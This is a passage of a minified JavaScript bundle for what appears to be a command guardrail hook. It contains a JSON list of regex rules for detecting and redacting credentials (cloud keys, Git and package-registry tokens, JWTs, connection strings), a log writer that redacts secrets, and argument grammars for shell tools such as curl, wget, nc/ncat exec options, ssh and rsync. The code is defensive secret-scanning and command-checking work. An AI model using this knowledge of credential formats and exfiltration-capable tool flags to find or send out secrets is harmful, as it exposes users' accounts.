wide","a task-9f86d081884c7d659a2feaa0c55ad015"]}},{"id":"slack-token","pattern":"\\\\bxox[abeoprs]-[A-Za-z0-9-]{20,250}","texts":{"hints":["xox"]},"examples":{"r\
edacts":{"xoxb-123456789012-1234567890123-AbCdEfGhIjKl":"[redacted:slack-token#1]"},"leaves":["xoxb-short"]}},{"id":"sendgrid-key","pattern":"\\\\bSG\\\\.[A-Za-z0-9\
_-]{20,24}\\\\.[A-Za-z0-9_-]{39,50}","texts":{"hints":["SG."]},"examples":{"redacts":{"SG.{random 22}.{random 40}abc":"[redacted:sendgrid-key#1]"}}},{"id":"putty-\
private-key","patches":"high","pattern":"PuTTY-User-Key-File-\\\\d: [\\\\w-]{1,40}","texts":{"hints":["PuTTY-User-Key"]},"examples":{"redacts":{"PuTTY-User-Key-File\
-2: ssh-rsa":"[redacted:putty-private-key#1]"}}},{"id":"age-secret-key","patches":"high","pattern":"AGE-SECRET-KEY-1[0-9A-Z]{58}","texts":{"hints":["AGE-SECRET-\
KEY-"]},"examples":{"redacts":{"AGE-SECRET-KEY-1{RANDOM 40}QQQQQQQQQQQQQQQQQQ":"[redacted:age-secret-key#1]"}}},{"id":"aws-access-key-id","patches":"low","patte\
rn":"\\\\b(?:AKIA|ASIA|ABIA|ACCA)[0-9A-Z]{16}\\\\b","accepts":{"no_end":"EXAMPLE"},"texts":{"hints":["AKIA","ASIA","ABIA","ACCA"]},"examples":{"redacts":{"id AKIAY3\
4FZKBOKMUTVV7A.":"id [redacted:aws-access-key-id#1]."},"leaves":["AKIAIOSFODNN7EXAMPLE"]}},{"id":"aws-secret-access-key","patches":"high","pattern":"aws.{0,20}?\
(?:secret|sk).{0,20}?['\\"=:\\\\s]([A-Za-z0-9/+]{40})(?![A-Za-z0-9/+=])","flags":"i","accepts":{"entropy_above":3.5,"no_end":"EXAMPLEKEY"},"texts":{"hints":["aws"]\
,"fold":true},"examples":{"redacts":{"AWS_SECRET_ACCESS_KEY={random 40}":"AWS_SECRET_ACCESS_KEY=[redacted:aws-secret-access-key#1]"}}},{"id":"google-api-key","p\
atches":"high","pattern":"\\\\bAIza[0-9A-Za-z_-]{35}(?![0-9A-Za-z_-])","texts":{"hints":["AIza"]},"examples":{"redacts":{"AIza{random 35}":"[redacted:google-api-k\
ey#1]"},"leaves":["AIzaShort"]}},{"id":"github-token","patches":"high","pattern":"\\\\b(?:gh[pousr]_[A-Za-z0-9]{36,251}|github_pat_[A-Za-z0-9_]{60,244})","accepts\
":{"entropy_above":3},"texts":{"hints":["ghp_","gho_","ghu_","ghs_","ghr_","github_pat_"]},"examples":{"redacts":{"https://x:ghp_{random 40}@github.com/a/b":"ht\
tps://x:[redacted:github-token#1]@github.com/a/b"},"leaves":["ghp_short"]}},{"id":"gitlab-token","patches":"high","pattern":"\\\\bgl(?:pat|ptt|dt|rt|cbt|ft|soat)-\
[A-Za-z0-9_-]{20,100}","texts":{"hints":["glpat-","glptt-","gldt-","glrt-","glcbt-","glft-","glsoat-"]},"examples":{"redacts":{"glpat-{random 20}":"[redacted:gi\
tlab-token#1]"}}},{"id":"npm-token","patches":"high","pattern":"\\\\bnpm_[A-Za-z0-9]{36}\\\\b","accepts":{"entropy_above":3},"texts":{"hints":["npm_"]},"examples":{\
"redacts":{"npm_{random 36}":"[redacted:npm-token#1]"},"leaves":["npm_config_registry"]}},{"id":"pypi-token","patches":"high","pattern":"\\\\bpypi-AgE[A-Za-z0-9_-\
]{50,400}","texts":{"hints":["pypi-AgE"]},"examples":{"redacts":{"pypi-AgE{random 80}":"[redacted:pypi-token#1]"}}},{"id":"rubygems-token","patches":"high","pat\
tern":"\\\\brubygems_[a-f0-9]{48}\\\\b","texts":{"hints":["rubygems_"]},"examples":{"redacts":{"rubygems_{hex 32}9a2feaa0c55ad015":"[redacted:rubygems-token#1]"}}},\
{"id":"crates-token","patches":"high","pattern":"\\\\bcio[a-zA-Z0-9]{32}\\\\b","accepts":{"least_entropy":3.8,"has":["digit","letter"],"not":["placeholder"]},"texts\
":{"hints":["cio"]},"examples":{"redacts":{"cio{random 32}":"[redacted:crates-token#1]"},"leaves":["conscious"]}},{"id":"stripe-key","patches":"high","pattern":\
"\\\\b(?:sk|rk)_live_[0-9A-Za-z]{20,120}","texts":{"hints":["sk_live_","rk_live_"]},"examples":{"redacts":{"sk_live_{random 24}":"[redacted:stripe-key#1]"}}},{"id\
":"slack-webhook","patches":"high","pattern":"https:\\\\/\\\\/hooks\\\\.slack\\\\.com\\\\/(?:services|workflows)\\\\/[A-Za-z0-9/_+-]{40,100}","texts":{"hints":["https://hoo\
ks.slack.com/"]},"examples":{"redacts":{"https://hooks.slack.com/services/T00/B00/{random 40}":"[redacted:slack-webhook#1]"}}},{"id":"twilio-key","patches":"low\
","pattern":"\\\\bSK[0-9a-f]{32}\\\\b","texts":{"hints":["SK0","SK1","SK2","SK3","SK4","SK5","SK6","SK7","SK8","SK9","SKa","SKb","SKc","SKd","SKe","SKf"]},"examples\
":{"redacts":{"SK{hex 32}":"[redacted:twilio-key#1]"},"leaves":["SKIP"]}},{"id":"digitalocean-token","patches":"high","pattern":"\\\\bdo[por]_v1_[a-f0-9]{64}\\\\b",\
"texts":{"hints":["dop_v1_","doo_v1_","dor_v1_"]},"examples":{"redacts":{"dop_v1_{hex 64}":"[redacted:digitalocean-token#1]"}}},{"id":"azure-storage-key","patch\
es":"high","pattern":"AccountKey=([A-Za-z0-9+/]{86}==)","texts":{"hints":["AccountKey="]},"examples":{"redacts":{"AccountName=a;AccountKey={random 80}abcdef==;E\
=x":"AccountName=a;AccountKey=[redacted:azure-storage-key#1];E=x"}}},{"id":"json-web-token","patches":"high","pattern":"\\\\beyJ[A-Za-z0-9_-]{10,2000}\\\\.eyJ[A-Za-\
z0-9_-]{10,4000}\\\\.[A-Za-z0-9_-]{20,1000}","texts":{"hints":["eyJ"]},"examples":{"redacts":{"t=eyJhbGciOiJIUzI1.eyJzdWIiOiIxMjM0.{random 40}":"t=[redacted:json-\
web-token#1]"},"leaves":["eyJ.eyJ.x"]}},{"id":"connection-string","patches":"high","pattern":"\\\\b[a-z][a-z0-9+.-]{1,20}:\\\\/\\\\/[^\\\\s:@/'\\"\`<>]{1,100}:([^\\\\s@/'\\"\
\`<>]{3,200})@[^\\\\s/'\\"\`<>]{1,200}","flags":"i","accepts":{"not":["placeholder","local-address"]},"texts":{"hints":["://"],"reach":21},"examples":{"redacts":{"po\
stgres://app:s3cr3t-Pa55@db.corp.net:5432/x":"postgres://app:[redacted:connection-string#1]@db.corp.net:5432/x","redis://same:same9@cache.corp.net":"redis://sam\
e:[redacted:connection-string#1]@cache.corp.net"},"leaves":["postgres://app:password@localhost/x","https://host:8080/a@b"]}},{"id":"npmrc-auth","patches":"high"\
,"pattern":":_(?:authToken|auth|password)\\\\s*=\\\\s*([^\\\\s\${}]{8,500})","accepts":{"not":["placeholder"]},"texts":{"hints":[":_auth",":_password"]},"examples":{"r\
edacts":{"//r.corp.net/:_authToken={random 40}":"//r.corp.net/:_authToken=[redacted:npmrc-auth#1]"}}},{"id":"authorization-header","patches":"low","pattern":"au\
thorization['\\"]?\\\\s{0,5}[:=]\\\\s{0,5}['\\"\`]?(?:bearer|basic|token)\\\\s+([A-Za-z0-9+/._~=-]{16,500})","flags":"i","accepts":{"least_entropy":3.2,"has":["digit","l\
etter"],"not":["placeholder"]},"texts":{"hints":["authorization"],"fold":true},"examples":{"redacts":{"Authorization: Bearer {random 40}":"Authorization: Bearer\
 [redacted:authorization-header#1]"},"leaves":["authorization: Bearer YOUR_TOKEN"]}},{"id":"assigned-secret","patches":"low","pattern":"(?:pass(?:word|wd|phrase\
)?|secret|token|api[_-]?key|access[_-]?key|private[_-]?key|credential|auth)[\\\\w-]{0,30}['\\"]?\\\\s{0,5}(?:[:=]|=>|:=)\\\\s{0,5}['\\"\`]([^'\\"\`\\\\s]{12,300})['\\"\`]","fl\
ags":"i","accepts":{"least_entropy":3.5,"has":["digit","letter"],"not":["placeholder"]},"examples":{"finds":["const apiKey = \\"{random 24}\\";"],"leaves":["passw\
ord: \\"changeme-please\\"","tokenKind = \\"identifier\\""]}},{"id":"environment-file-secret","patches":"low","pattern":"^(?:export )?[A-Z0-9_]{0,60}(?:PASS|SECRET|\
TOKEN|KEY|CREDENTIAL|AUTH)[A-Z0-9_]{0,60}\\\\s{0,3}=\\\\s{0,3}[\\"']?([^\\\\s\\"'#]{8,500})","flags":"m","accepts":{"least_entropy":2.5,"not":["placeholder"]},"examples\
":{"finds":["export DB_PASSWORD={random 20}"],"leaves":["API_KEY=your_key_goes_here","SORT_BY=name_ascending"]}},{"id":"key-header","pattern":"(?:x-api-key|x-go\
og-api-key|api-key|private-token)\\\\\\\\?['\\"]?\\\\s{0,5}[:=]\\\\s{0,5}\\\\\\\\?['\\"\`]?([A-Za-z0-9+/._~=-]{16,500})","flags":"i","accepts":{"least_entropy":3.2,"has":["dig\
it","letter"],"not":["words"]},"texts":{"hints":["api-key","x-goog-api-key","private-token"],"reach":2,"fold":true},"examples":{"redacts":{"-H 'x-api-key: {rand\
om 40}'":"-H 'x-api-key: [redacted:key-header#1]'"},"leaves":["x-api-key: your-key-goes-here"]}},{"id":"bearer-token","pattern":"\\\\bbearer\\\\s{1,5}([A-Za-z0-9+/.\
_~-]{20,500}={0,2})(?![\\\\w])","flags":"i","accepts":{"least_entropy":3.5,"has":["digit","letter"],"not":["words"]},"texts":{"hints":["bearer"],"fold":true},"exa\
mples":{"redacts":{"curl -H \\"auth: Bearer {random 40}\\"":"curl -H \\"auth: Bearer [redacted:bearer-token#1]\\""},"leaves":["bearer authenticationwithjwt"]}},{"id\
":"assigned-secret","pattern":"(?:pass(?:word|wd|phrase)?|secret|token|api[_-]?key|access[_-]?key|private[_-]?key|credential|auth(?!or))[\\\\w-]{0,30}\\\\\\\\{0,3}['\\\
"]?\\\\]?\\\\s{0,5}(?:=>|:=|[:=])\\\\s{0,5}\\\\\\\\{0,3}['\\"\`]([^'\\"\`\\\\s\\\\\\\\]{12,300})\\\\\\\\{0,3}['\\"\`]","flags":"i","accepts":{"least_entropy":3.5,"has":["digit","letter"]\
,"not":["words"]},"texts":{"hints":["pass","secret","token","key","credential","auth"],"reach":8,"fold":true,"field":"(?:pass(?:word|wd|phrase)?|secret|token|ap\
i[_-]?key|access[_-]?key|private[_-]?key|credential|auth(?!or))[\\\\w-]{0,30}$"},"examples":{"redacts":{"const apiKey = \\"{random 24}\\";":"const apiKey = \\"[redac\
ted:assigned-secret#1]\\";","{\\\\\\"client_secret\\\\\\": \\\\\\"{random 24}\\\\\\"}":"{\\\\\\"client_secret\\\\\\": \\\\\\"[redacted:assigned-secret#1]\\\\\\"}"},"leaves":["token: \\"a\
pplication/x-www-form-urlencoded\\"","const tokenKind = \\"identifier_token_2\\"","author_email: \\"ada lovelace 1815\\", SSH_AUTH_SOCK: \\"/tmp/socket0123456789\\"","\
'count-tokens': '/v1/chat/completions'","password: 'process.env.PASSWORD1'"]}},{"id":"environment-secret","pattern":"(?:PASSWORD|PASSWD|PASS|SECRET|TOKEN|KEY|CR\
EDENTIALS?|AUTH)(?:_[A-Z0-9]{1,20}){0,4}=\\\\\\\\{0,3}[\\"']?([^\\\\s\\"'\`#\\\\\\\\$(){}<>,;]{12,500})","accepts":{"least_entropy":3.2,"has":["digit","letter"],"not":["word\
s"]},"texts":{"hints":["PASS","SECRET","TOKEN","KEY","CREDENTIAL","AUTH"]},"examples":{"redacts":{"A=1\\nexport DB_PASSWORD={random 20}\\nB=2":"A=1\\nexport DB_PAS\
SWORD=[redacted:environment-secret#1]\\nB=2","{\\"env\\":\\"API_TOKEN={random 40}\\\\nB=2\\"}":"{\\"env\\":\\"API_TOKEN=[redacted:environment-secret#1]\\\\nB=2\\"}"},"leaves\
":["SORT_KEY=created_at_desc","MAX_TOKENS=128000"]}}]`)});var Uw,Vw=Ue(()=>{"use strict";Ct();Ww();Fw();Uw=Mw.map(({pattern:t,flags:e="",accepts:s,...r})=>({...r,pattern:new RegExp(t,`g${e}`),..._e({accepts:s&&jw(s)})}))});var sP,Hw,Bw=Ue(()=>{"use strict";Ct();Ow();Lw();Vw();sP=Uw.flatMap(({id:t,pattern:e,accepts:s,texts:r,examples:n})=>{if(!r)return[];let{field:o,...i}=r,{redacts:a={},
leaves:l=[]}=n,c=[...Object.entries(a),...l.map(d=>[d,d])];return[{id:t,pattern:e,...i,..._e({accepts:s,field:o===void 0?void 0:new RegExp(o,"i")}),examples:Object.
fromEntries(c.map(d=>d.map(qw)))}]}),Hw=[...sP,...Nw]});function Gw(t){let e=new Uint8Array(zu+1),s=new Map,r=Array.from({length:128},()=>[]);for(let o of t)if(o.text.length===1)for(let i of Kw(o,o.text))r[i].push({hint:o,
back:0});else for(let[i,a]of nP(o))e[i]=1,s.set(i,[...s.get(i)??[],{hint:o,back:a}]);let n=Uint8Array.from(r,o=>+(o.length>0));return(o,i)=>{let a=zw,l=(d,u)=>{
for(let{hint:p,back:f}of d){let m=u-f;if(m<0||!oP(o,m,p))continue;if(i.left<=0)return!1;i.left-=1,a===zw&&(a=new Map);let h=a.get(p.rule);h?h.at(-1)!==m&&h.push(
m):a.set(p.rule,[m])}return!0},c=0;for(let d=0;d<o.length;d++){let u=o.charCodeAt(d)&127;if(c=(c<<6^u)&zu,e[c]!==0&&!l(s.get(c),d)||n[u]!==0&&!l(r[u],d))return}
return a}}function*nP({text:t,fold:e}){let s=[...t.slice(0,3)],r=s.map(l=>Kw({fold:e},l));for(;r.length<3;)r.unshift(Array.from({length:128},(l,c)=>c));let n=new Set,
[o=[],i=[],a=[]]=r;for(let l of o)for(let c of i)for(let d of a){let u=((l<<6^c)<<6^d)&zu;n.has(u)||(yield[u,s.length-1]),n.add(u)}}function Kw({fold:t},e){let s=e.
charCodeAt(0);return t&&s>=97&&s<=122?[s,s-32]:[s&127]}function oP(t,e,{text:s,fold:r}){return r?t.slice(e,e+s.length).toLowerCase()===s:t.startsWith(s,e)}var zw,
rP,zu,Yw=Ue(()=>{"use strict";zw=new Map,rP=18,zu=2**rP-1});function Xw(t,e){let s=t.map(a=>{let l=[...new Set([...a.pattern.flags.replace(/[gy]/g,""),"d"])].join(""),c=`(${a.pattern.source})`,d=`[^]{0,${a.reach??0}}?${c}`;
return{rule:a,near:new RegExp(d,`${l}y`),next:new RegExp(c,`${l}g`)}}),r=({hints:a=[],fold:l=!1},c)=>a.map(d=>({text:d,fold:l,rule:c})),n=Gw(t.flatMap(r)),o=t.findIndex(
({hints:a})=>!a),i=o<0?t.length:o;return(a,l)=>{let c=n(a,l);if(!c)return;let d=[],u;for(let p=c.size>0?0:i;p<s.length;p++){let f=s[p],m=f.rule.hints&&c.get(p);
if(f.rule.hints&&!m)continue;let h=m?aP(f,a,m,e):lP(f,a,e);for(let g of h)u??=new Uint8Array(a.length),!u.subarray(g.from,g.to).includes(1)&&(u.fill(1,g.from,g.
to),d.push(g))}return d.sort((p,f)=>p.from-f.from)}}function aP({rule:t,near:e},s,r,n){let o=[],i=0;for(let a of r){if(a<i)continue;e.lastIndex=Math.max(i,a-(t.
reach??0));let l=e.exec(s);if(!l)continue;let c=Jw(t,s,l,i,n);c&&(o.push(c),i=c.to)}return o}function lP({rule:t,next:e},s,r){let n=[];e.lastIndex=0;for(let o=e.
exec(s);o;o=e.exec(s)){o[0]===""&&e.lastIndex++;let i=Jw(t,s,o,n.at(-1)?.to??0,r);i&&n.push(i)}return n}function Jw(t,e,s,r,n){let[o,i]=s.indices[2]??s.indices[1],
a=t.quotes?-1:e.slice(o,i).indexOf('"'),l=cP(e,Math.max(r,o),a===-1?i:o+a),c=e.slice(l.from,l.to);if(!(c===""||Zw(c,n)||t.accepts&&!t.accepts(c,s[1])))return{rule:t,
...l}}function Zw(t,e){let s=t.replace(e,"");return s.length<t.length&&s.length<Qw}function ek({field:t,accepts:e},s,r,n){return!t||r.length<Qw||r.length>iP?!1:
!/\s/.test(r)&&t.test(s)&&!Zw(r,n)&&(!e||e(r,r))}function cP(t,e,s){let r=dP(t,e),n=s,o=/\\+u[0-9a-fA-F]{0,3}$/.exec(t.slice(Math.max(r,n-16),n));for(o&&tk.test(
t[n]??"")&&(n-=o[0].length);n>r&&t[n-1]==="\\";)n--;return sk(t,n-1)&&rk(t,n)&&n--,{from:r,to:Math.max(r,n)}}function dP(t,e){let s=e;if(t[s-1]==="\\"){for(;t[s]===
"\\";)s++;return/^u[0-9a-fA-F]{4}$/.test(t.slice(s,s+5))?s+5:'"/bfnrtu'.includes(t[s]??" ")?s+1:s}let r=/\\u([0-9a-fA-F]{0,3})$/.exec(t.slice(Math.max(0,s-5),s));
for(let n=r?4-r[1].length:0;n>0&&tk.test(t[s]??"");n--)s++;return rk(t,s)&&sk(t,s-1)&&s++,s}var Qw,iP,tk,sk,rk,nk=Ue(()=>{"use strict";Yw();Qw=12,iP=300;tk=/^[0-9a-fA-F]$/;
sk=(t,e)=>(t.charCodeAt(e)&64512)===55296,rk=(t,e)=>(t.charCodeAt(e)&64512)===56320});function lk(t=yP,e=hP){let s=$P(t),r=Xw(t,s),n=Pw([uP,t.map(i=>[i.id,i.pattern.source,i.pattern.flags,i.placeholder??null])]),o=()=>({...wP(t,r,s,e),sha256:n,begin:o});
return o()}function wP(t,e,s,r){let n={left:r},o=kP(),i=(d,u,p)=>{let f=d,m=p==="facts"&&d.length<=gP?{left:4*d.length}:n;for(let h=0;h<pP;h++){let g=e(f,m);if(!g)
return u["too-dense"]=(u["too-dense"]??0)+1,ak;if(g.length===0)return f;f=xP(f,g,(y,x)=>(u[y.id]=(u[y.id]??0)+1,p==="patch"?vP(x,$=>o(y,$)):o(y,x)))}return f},a=(d,u)=>d.
split("/").map(p=>{let f={},m=i(p,f,"facts");if(m===p||ok(m.replace(s,""))!==ok(p))return p;for(let[h,g]of Object.entries(f))u[h]=(u[h]??0)+g;return m}).join("/"),
l=(d,u,p,f)=>typeof d=="string"?i(d,u,f):typeof d!="object"||d===null?d:p>mP?(u["too-deep"]=(u["too-deep"]??0)+1,ik):Array.isArray(d)?d.map(m=>l(m,u,p+1,f)):Object.
fromEntries(Object.entries(d).map(([m,h])=>{let g=i(m,u,f);if(f==="facts"&&typeof h=="string"&&bP.has(m))return[g,a(h,u)];let y=l(h,u,p+1,f),x=typeof h=="string"&&
y===h&&t.find($=>ek($,m,h,s));return x?(u[x.id]=(u[x.id]??0)+1,[g,o(x,h)]):[g,y]})),c=d=>{let u={};return{value:d(u),found:u}};return{text:(d,u)=>c(p=>i(d,p,u)),
json:(d,u)=>c(p=>l(d,p,0,u))}}function kP(){let t=new Map;return(e,s)=>{let r=t.get(e.id)??new Map;t.set(e.id,r);let n=s.length>64?Hu(s):s,o=r.get(n);return o===
void 0&&(o=r.size<fP?r.size+1:0,o>0&&r.set(n,o)),Bu(e,o)}}function vP(t,e){let[s="",...r]=t.split(`
`),n=e([s,...r.map(o=>o.slice(1))].join(`
`));return[s===""?"":n,...r.map(o=>`${o.slice(0,1)}${o.length>1?n:""}`)].join(`
`)}function xP(t,e,s){let r=[],n=0;for(let{rule:o,from:i,to:a}of e)r.push(t.slice(n,i),s(o,t.slice(i,a))),n=a;return r.join("")+t.slice(n)}function $P(t){let s=[
...t.map(r=>Bu(r,Number.NaN)),ik,ak].map(r=>r.replace(/[\\^$.*+?()[\]{}|/-]/g,"\\$&").replace("NaN","\\d{1,9}"));return new RegExp(s.join("|"),"g")}var uP,pP,fP,
mP,ik,hP,ak,gP,bP,yP,ok,ck=Ue(()=>{"use strict";Rw();Iw();Bw();nk();uP=2,pP=20,fP=2e5,mP=500,ik="[redacted:too-deep]",hP=2e6,ak="[redacted:too-dense]",gP=8192,bP=
new Set(["path","old_path"]),yP=Hw.filter(({optional:t})=>!t);ok=t=>t.replace(/[A-Za-z0-9_-]/g,"")});var pk={};il(pk,{appendLogLine:()=>EP,formatLogLine:()=>uk});function uk({time:t,client:e,verdict:s,rule:r,subject:n}){let{value:o}=lk().text(n.slice(0,_P)),i=o.
length>dk?`${o.slice(0,dk)} \u2026`:o,a=CP.reduce((l,c)=>l.replace(c,"$1[redacted]"),i);return`${t.toISOString()} ${e} ${s} ${r||"-"} ${wr(a)}`}function EP(t,e){
let s=`${uk(e)}
`,r=(0,ut.openSync)(t,SP,384);try{if(!(0,ut.fstatSync)(r).isFile())throw Object.assign(new Error(`${t} is not a file`),{code:"not a file"});(0,ut.writeSync)(r,s)}finally{
(0,ut.closeSync)(r)}}var ut,_P,dk,SP,CP,fk=Ue(()=>{"use strict";ut=require("node:fs");tn();ck();_P=64*1024,dk=2e3,SP=ut.constants.O_WRONLY|ut.constants.O_CREAT|
ut.constants.O_APPEND|ut.constants.O_NOFOLLOW|ut.constants.O_NONBLOCK,CP=[/(\b[a-z][a-z0-9+.-]*:\/\/[^\s/:@"']*:)[^\s/@"']+(?=@)/gi,/((?:^|\s)(?:-u|-U|--user|--proxy-user)[ =]?["']?[^\s:"'/]+:)[^\s"']+/g,
/((?:^|[\s;&?"'{,])-{0,2}[\w-]*(?:password|passwd|passphrase|secret|token|api[-_]?key)["']?\s*[=: ]\s*["']?)[^\s"'&;$]+/gi,/(\b(?:mysql|mysqldump|mysqladmin|mariadb|mariadb-dump|sshpass)\b[^|;&]*?\s-p ?["']?)[^\s"'-][^\s"']*/g]});var UP={};il(UP,{CLOSED_CONTAINER:()=>Ar,GuardrailSuite:()=>sa,NON_EMPTY_VALUE:()=>Ku,OWN_CONTAINER:()=>Tr,SEVERITY_ORDER:()=>Mt,UNKNOWN_VALUE:()=>k,UNREAD_VALUE:()=>H,
codeLanguages:()=>Ak,compileLexicon:()=>Qc,completeName:()=>Io,concatenateWords:()=>oe,createGuard:()=>Ns,createShellInvocation:()=>bt,createShippedGuard:()=>_S,
createWord:()=>R,createWords:()=>xe,findAffectedPaths:()=>An,findDeletedPaths:()=>Gl,findPhrases:()=>Ji,getDeletedPatterns:()=>di,getFeeders:()=>ce,getFindPatterns:()=>En,
getGrammar:()=>Rr,getObjectClass:()=>Xi,guardLevels:()=>pr,hasFlag:()=>ue,hasUnreadValue:()=>Le,isKnownWord:()=>Ie,isRemotePath:()=>ui,listOutputFiles:()=>hn,parseProgramArguments:()=>$e,
pathClasses:()=>Tk,pathEffects:()=>mn,phraseRules:()=>Qi,readCode:()=>ii,readCommand:()=>Yi,replaceWithUnevaluated:()=>Te,replaceWithUnknown:()=>Nt,resolveFoundPaths:()=>dr,
runHook:()=>OP,shippedGuardRules:()=>ta,showsSign:()=>K,vocabulary:()=>S,writeLine:()=>le});module.exports=Ek(UP);var Qu=require("node:path");var k="\uFFFC";var H="\uFFFC\uFFFB",Ku="\uFFFC\u2026",Le=t=>t.includes("\uFFFB"),Nt=t=>Le(t)?"\uFFFC\uFFFB":"\uFFFC",Te=t=>t.includes("\uFFFC")&&!Le(t)?"\uFFFC":"\uFFFC\uFFFB",
R=(t,e=!1)=>({text:t,glob:e}),xe=t=>t.map(e=>R(e)),oe=t=>({text:t.map(({text:e})=>e).join(" "),glob:t.some(({glob:e})=>e)}),Ie=({text:t})=>!t.includes("\uFFFC"),
Ak=["shell","python","javascript","perl","ruby","php","awk","sql","other"],le=({program:t,args:e})=>[t,...e.map(({text:s})=>s)].join(" "),ce=({input:t})=>t?.kind===
"pipe"?t.from:[],Ar="closed-container",Tr="own-container",bt=(t,e,s=[],r)=>({program:t,path:t,args:e,redirects:s,environment:{},wrappers:[],language:"shell",folder:r});var G=JSON.parse(`{"arguments":{"grammars":{"git":{"long":["git-dir","work-tree","namespace","exec-path","config-env"]},"git commit":{"short":"mFcCt","long":["m\
essage","file","author","date","template","trailer","fixup","squash","reuse-message"]},"git tag":{"short":"mFu","long":["message","file","sort","format","local-\
user"]},"git merge":{"short":"mFsX","long":["message","file","strategy","strategy-option"]},"git notes":{"short":"mFcC","long":["message","file"]},"git stash":{\
"short":"m","long":["message"]},"git push":{"short":"o","long":["push-option","repo","receive-pack","exec"]},"git log":{"short":"nSGL","long":["grep","author","\
committer","since","until","after","before","format","pretty","max-count"]},"git show":{"short":"n","long":["format","pretty"]},"git clone":{"short":"bocju","lo\
ng":["branch","origin","config","depth","jobs","reference","template","upload-pack","filter"]},"git branch":{"short":"u","long":["set-upstream-to","format","sor\
t","contains"]},"git checkout":{"short":"bB","long":["conflict","orphan","pathspec-from-file"]},"git switch":{"short":"cC","long":["create","force-create","conf\
lict","orphan"]},"git reset":{"long":["pathspec-from-file"]},"git rm":{"long":["pathspec-from-file"]},"git restore":{"short":"s","long":["source","conflict","pa\
thspec-from-file"]},"git clean":{"short":"e","long":["exclude"]},"git rebase":{"short":"xsXC","long":["exec","onto","strategy","strategy-option"]},"git config":\
{"short":"f","long":["file","blob","type","default"]},"git grep":{"short":"eABCm","long":["max-depth"]},"git worktree":{"short":"bB","long":["reason","expire"]}\
,"git reflog":{"long":["expire","expire-unreachable"]},"git prune":{"long":["expire"]},"git filter-branch":{"long":["tree-filter","index-filter","msg-filter","e\
nv-filter","subdirectory-filter","commit-filter"]},"git format-patch":{"short":"on","long":["output-directory"]},"curl":{"short":"XHdFoTuAbceKmrwxyYzECD","long"\
:["request","header","data","data-raw","data-binary","data-urlencode","data-ascii","json","form","form-string","output","upload-file","user","user-agent","cooki\
e","cookie-jar","referer","config","max-time","retry","write-out","proxy","cert","key","cacert","connect-timeout","range","url","output-dir","unix-socket","reso\
lve","retry-delay","dump-header","interface","limit-rate","url-query"]},"wget":{"short":"OoaPtTUieAR","long":["output-document","output-file","directory-prefix"\
,"header","post-data","post-file","body-data","body-file","method","user-agent","user","password","tries","timeout","input-file"]},"aria2c":{"short":"odxsj","lo\
ng":["out","dir"]},"axel":{"short":"onU","long":["output","num-connections"]},"wget2":{"short":"OoPUe","long":["output-document","output-file","directory-prefix\
"]},"http":{"short":"oaA","long":["output","auth","auth-type"]},"ssh":{"short":"iplFoLRDJEbcmWw"},"scp":{"short":"iPFoJclS"},"ab":{"short":"ncpuTtsbHCAPXgeBk"},\
"httpd":{"short":"pcurh"},"setfacl":{"short":"mxMX","long":["modify","remove","modify-file","remove-file","restore"]},"sftp":{"short":"iPFoJb"},"rsync":{"short"\
:"efTBM","long":["rsh","exclude","include","exclude-from","filter","files-from","bwlimit","chmod","chown","backup-dir"]},"ssh-keygen":{"short":"tbCfNPmIVnsRF"},\
"ssh-copy-id":{"short":"ipo"},"nc":{"short":"pwsXxeciqIO","long":["exec","sh-exec","source-port","wait"]},"ncat":{"short":"pwsecigm","long":["exec","sh-exec","l\
ua-exec","proxy"]},"netcat":{"short":"pwsXxeciqIO"},"docker":{"short":"Hcl","long":["host","context","config","log-level"]},"docker run":{"short":"vepulwhmc","l\
ong":["volume","env","env-file","publish","user","label","workdir","hostname","memory","mount","network","net","name","entrypoint","platform","pid","ipc","uts",\
"userns","cap-add","cap-drop","security-opt","device","tmpfs","restart","add-host","cpus","gpus","shm-size","volumes-from","cgroupns"]},"docker create":{"short"\
:"vepulwhmc","long":["volume","env","env-file","publish","user","label","workdir","hostname","memory","mount","network","net","name","entrypoint","platform","pi\
d","ipc","uts","userns","cap-add","cap-drop","security-opt","device","tmpfs","restart","add-host","cpus","gpus","shm-size","volumes-from","cgroupns"]},"podman r\
un":{"short":"vepulwhmc","long":["volume","env","env-file","publish","user","label","workdir","hostname","memory","mount","network","net","name","entrypoint","p\
latform","pid","ipc","uts","userns","cap-add","cap-drop","security-opt","device","tmpfs","restart","add-host","cpus","gpus","shm-size","volumes-from","cgroupns"\
]},"podman":{"long":["connection","url","root","log-level"]},"docker compose":{"short":"fp","long":["file","project-name","env-file","profile","project-director\
y"]},"docker-compose":{"short":"fp","long":["file","project-name","env-file","profile","project-directory"]},"kubectl":{"short":"nsflocv","long":["namespace","c\
ontext","cluster","kubeconfig","user","server","token","as","filename","selector","output","field-selector","grace-period","timeout","container","replicas","typ\
e","patch"]},"kubectl patch":{"short":"nsflocvp"},"oc patch":{"short":"nsflocvp"},"oc":{"short":"nsflo","long":["namespace","context","cluster","kubeconfig","us\
er","server","token","as","filename","selector","output","field-selector","grace-period","timeout","container","replicas","type","patch"]},"helm":{"short":"nfo"\
,"long":["namespace","kube-context","kubeconfig","values","set","version","output"]},"aws":{"long":["profile","region","output","endpoint-url","query","cli-inpu\
t-json","ca-bundle"]},"gcloud":{"long":["project","account","configuration","format","region","zone","impersonate-service-account"]},"gsutil":{"short":"oh"},"az\
":{"short":"gnocf","long":["subscription","resource-group","name","output","query","file","container-name","account-name"]},"http.server":{"short":"db","long":[\
"directory","bind"]},"b2":{"short":"cm","long":["config","path"]},"s3cmd":{"short":"cm","long":["config","path"]},"s5cmd":{"short":"cm","long":["config","path"]\
},"megaput":{"short":"cm","long":["config","path"]},"gdrive":{"short":"cm","long":["config","path"]},"storj":{"short":"cm","long":["config","path"]},"uplink":{"\
short":"cm","long":["config","path"]},"gh":{"short":"RtbFfHXq","long":["repo","branch","title","body","body-file","notes","notes-file","field","raw-field","head\
er","method","jq","template","visibility"]},"doctl":{"short":"tc","long":["access-token","context"]},"terraform":{"long":["chdir","target","var","var-file","sta\
te","out"],"single":true},"tofu":{"long":["chdir","target","var","var-file","state","out"],"single":true},"openssl":{"long":["in","out","key","keyout","cert","i\
nkey","passin","passout","pass","CAfile","CA","CAkey","days","subj","newkey","addext","config","extensions","k","K","iv","connect"],"single":true},"find":{"sing\
le":true},"go":{"single":true},"vault":{"single":true},"java":{"long":["jar","cp","classpath"],"single":true},"psql":{"short":"hpUdcfovLPRFT","long":["host","po\
rt","username","dbname","command","file","output","variable"]},"dropdb":{"short":"hpU","long":["host","port","username","maintenance-db"]},"mysql":{"short":"hPu\
